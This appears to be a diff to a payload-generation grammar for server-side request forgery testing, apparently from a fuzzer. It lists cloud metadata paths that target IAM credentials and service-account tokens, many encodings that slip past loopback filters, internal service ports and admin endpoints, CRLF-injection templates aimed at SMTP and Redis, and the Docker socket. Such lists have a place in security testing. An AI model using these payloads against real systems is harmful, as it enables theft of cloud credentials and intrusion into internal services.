@@ -88,8 +88,8 @@ meta:
 metapath = meta-data/¦meta-data/iam/security-credentials/¦meta-data/iam/security-credentials/admin¦user-data¦dynamic/instance-identity/document¦meta-data/hostname¦meta-data/public-keys/0/openssh-key¦meta-data/ami-id¦meta-data/local-ipv4¦meta-data/placement/availability-zone
 gpath = instance/service-accounts/default/token¦instance/¦project/attributes/ssh-keys?alt=json¦instance/attributes/kube-env¦project/project-id¦instance/disks/?recursive=true
 lo = localhost¦127.0.0.1¦127.0.0.1¦0.0.0.0¦0¦127.1¦127.0.1¦[::1]¦[::]¦[0:0:0:0:0:ffff:127.0.0.1]¦127.127.127.127¦127.0.0.0¦2130706433¦0x7f000001¦017700000001¦0177.0.0.1¦0x7f.0.0.1¦localtest.me¦lvh.me¦127.0.0.1.nip.io¦spoofed.burpcollaborator.net¦localhost.localdomain¦ip6-localhost¦①②⑦.⓪.⓪.①¦127。0。0。1¦LOCALHOST¦loopback¦[0000::1]¦127.0.0.1.xip.io¦ⓛⓞⓒⓐⓛⓗⓞⓢⓣ¦3232235521¦host.docker.internal¦customer1.app.localhost.my.company.127.0.0.1.nip.io¦127.00000.00000.001¦7f000001.c0a80001.rbndr.us¦1u.ms¦make-127-0-0-1-rr.1u.ms¦[::ffff:127.0.0.1]
-inport = 22¦25¦80¦443¦2375¦3306¦5432¦6379¦8000¦8080¦8443¦9000¦9200¦11211¦27017¦5984¦8500¦2379¦10250¦3000¦5000¦6443¦15672¦7001¦9090¦8888¦1433¦21¦23¦5601¦50070¦4444¦81
-inpath = ¦¦¦/¦/admin¦/admin/delete?username=carlos¦/server-status¦/_cat/indices¦/containers/json¦/v1/agent/self¦/manager/html¦/actuator/env¦/phpinfo.php¦/api/v1/pods¦/.env¦/config¦/debug/pprof¦/metrics¦/console¦/v2/keys/?recursive=true¦/wp-admin¦/solr/admin/cores¦/jenkins/script¦/private¦/flag¦/internal/users
+inport = 22¦25¦80¦443¦2375¦3306¦5432¦6379¦8443¦9200¦11211¦27017¦5984¦8500¦2379¦10250¦6443¦15672¦7001¦9090¦1433¦21¦23¦5601¦50070¦4444¦81
+inpath = ¦¦¦/¦/admin¦/admin/delete?username=carlos¦/server-status¦/_cat/indices¦/containers/json¦/v1/agent/self¦/manager/html¦/actuator/env¦/phpinfo.php¦/api/v1/pods¦/.env¦/config¦/debug/pprof¦/console¦/v2/keys/?recursive=true¦/wp-admin¦/solr/admin/cores¦/jenkins/script¦/private¦/flag¦/internal/users
 inner:
   4×http://‹lo›:‹inport›‹inpath›
   3×http://‹lo›‹inpath›
@@ -117,9 +117,6 @@ inner:
   http://‹lo›:‹inport›/%0d%0aHELO ‹az›%0d%0a
   http://‹lo›:‹inport›%0d%0aSET%20‹az›%20‹az›
   ‹lo›:‹inport›
-  ‹ipriv›:‹inport›
-  http://‹az›.internal/‹az›
-  http://internal-‹az›.‹site›/
   http://‹az›.svc.cluster.local:‹inport›/
   unix:/var/run/docker.sock
   unix:‹junk›|http://‹lo›/
